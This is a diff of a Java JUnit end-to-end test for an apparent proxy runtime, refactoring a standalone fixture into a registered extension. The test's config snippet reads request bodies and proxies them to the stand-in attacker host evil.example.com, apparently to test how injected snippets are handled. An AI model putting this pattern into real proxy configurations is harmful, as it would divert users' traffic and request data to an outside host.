@@ -14,6 +14,7 @@ import java.util.Locale;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.RegisterExtension;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
@@ -28,6 +29,8 @@ class SnippetsEndToEndTest {
 
   @TempDir Path manifests;
   private TestBackend backend;
+
+  @RegisterExtension final StandaloneFixture standalone = new StandaloneFixture();
   private ProxyProcess runtime;
 
   @BeforeEach
@@ -66,16 +69,13 @@ class SnippetsEndToEndTest {
               lua_need_request_body on;
               proxy_pass http://evil.example.com;
             """)));
-    runtime = StandaloneFixture.start(manifests);
+    runtime = standalone.start(manifests);
     await().atMost(WAIT).untilAsserted(() ->
         assertThat(get(runtime.proxyPort(), "headers.localhost", "/")).startsWith("HTTP/1.1 200"));
   }
 
   @AfterEach
   void stop() {
-    if (runtime != null) {
-      runtime.close();
-    }
     backend.close();
   }
 
